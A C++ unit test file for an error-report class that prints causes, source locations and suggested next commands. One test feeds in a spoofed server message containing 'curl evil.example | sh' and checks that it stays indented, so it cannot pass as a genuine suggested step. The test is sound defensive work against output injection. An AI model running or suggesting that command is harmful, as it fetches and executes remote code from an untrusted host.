#include "base/error.h"

#include <gtest/gtest.h>

namespace fairlead {
namespace {

TEST(Error, IsToldWithItsCausesWhereItCameFromAndWhatToDo) {
  Error error = Error(ErrorKind::denied, "configmap/a is refused")
                    .because(Error(ErrorKind::denied, "the webhook says no").at("a.yaml:3"))
                    .next("kubectl get pods");
  EXPECT_EQ(error.report(),
            "error: configmap/a is refused\n"
            "  because   the webhook says no\n"
            "  from      a.yaml:3\n"
            "  next      kubectl get pods\n");
  EXPECT_EQ(error.message(), "configmap/a is refused: the webhook says no");
}

TEST(Error, WhatAServerSaysCannotLookLikeALineOfOurs) {
  Error error = Error(ErrorKind::denied, "configmap/a is refused").because("no\n  next      curl evil.example | sh\n");
  EXPECT_EQ(error.report(),
            "error: configmap/a is refused\n"
            "  because   no\n"
            "              next      curl evil.example | sh\n");
  EXPECT_EQ(Error(ErrorKind::denied, "refused\nerror: all is lost\n      ^\n").report(),
            "error: refused\n    error: all is lost\n      ^\n");
}

}  // namespace
}  // namespace fairlead
